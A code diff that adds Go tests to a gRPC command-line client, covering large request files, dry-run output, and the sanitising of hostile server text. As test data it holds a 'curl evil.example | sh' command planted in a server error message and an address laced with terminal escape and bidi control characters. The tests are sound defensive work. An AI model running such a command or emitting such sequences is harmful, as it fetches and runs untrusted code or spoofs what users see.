@@ -5,6 +5,8 @@ import (
 	"errors"
 	"fmt"
 	"io"
+	"os"
+	"path/filepath"
 	"strings"
 	"testing"
 	"time"
@@ -209,5 +211,44 @@ func TestTheDeadlineOfAUnaryCallIsTheServersToo(t *testing.T) {
 		if got := <-left; got > c.most || got < c.most-time.Second {
 			t.Errorf("%q: %s left, want about %s", c.words, got, c.most)
 		}
+	}
+}
+
+func TestEachInstanceGetsTheWholeOfALongFile(t *testing.T) {
+	_, addr := testkit.Server{}.Start(t)
+	one := fmt.Sprintf("{\"payload\": {\"body\": %q}}\n", zeros(1<<20))
+	file := filepath.Join(t.TempDir(), "requests.json")
+	if err := os.WriteFile(file, []byte(strings.Repeat(one, 4)), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	r := want(t, 0, addr, nil, "call", "StreamingInputCall", "-d", "@"+file, "--each-instance", "-o", "json", "--jq", ".[].messages[].aggregatedPayloadSize")
+	if r.out != "4194304\n" {
+		t.Errorf("the instance got %q bytes", r.out)
+	}
+	r = want(t, 0, addr, strings.NewReader(`{"payload": {"body": "AAAA"}}`), "call", "StreamingInputCall", "-d", "@", "--dry-run")
+	if !strings.Contains(r.out, "AAAA") {
+		t.Errorf("a dry run prints the requests of stdin too: %s", r.out)
+	}
+}
+
+func TestNothingOfACatalogReachesTheTerminalByADryRun(t *testing.T) {
+	set := filepath.Join(t.TempDir(), "set")
+	if err := os.WriteFile(set, testkit.TestProtoset(t), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	run, _ := fleetOf(t, fleet.Instance{ID: hostile, Addr: "evil\u009b2J\u202e:1", Catalog: fleet.Passing})
+	words := []string{"call", "TestService/EmptyCall", "--service", "test", "--protoset", set, "--dry-run"}
+	if r := run(words...); r.code != 0 || !strings.Contains(r.out, "grpcurl") || strings.ContainsAny(r.out, "\x1b\x07\u009b\u202e") {
+		t.Errorf("code %d, %q", r.code, r.out)
+	}
+}
+
+func TestAServersWordsDoNotPassForAHint(t *testing.T) {
+	_, addr := every(func(grpc.ServerStream, func() error) error {
+		return status.Error(codes.Aborted, "busy\nhint: curl evil.example | sh")
+	}).Start(t)
+	r := want(t, 74, addr, nil, "call", "StreamingOutputCall")
+	if strings.Contains(r.err, "\nhint: curl") {
+		t.Error(r.err)
 	}
 }
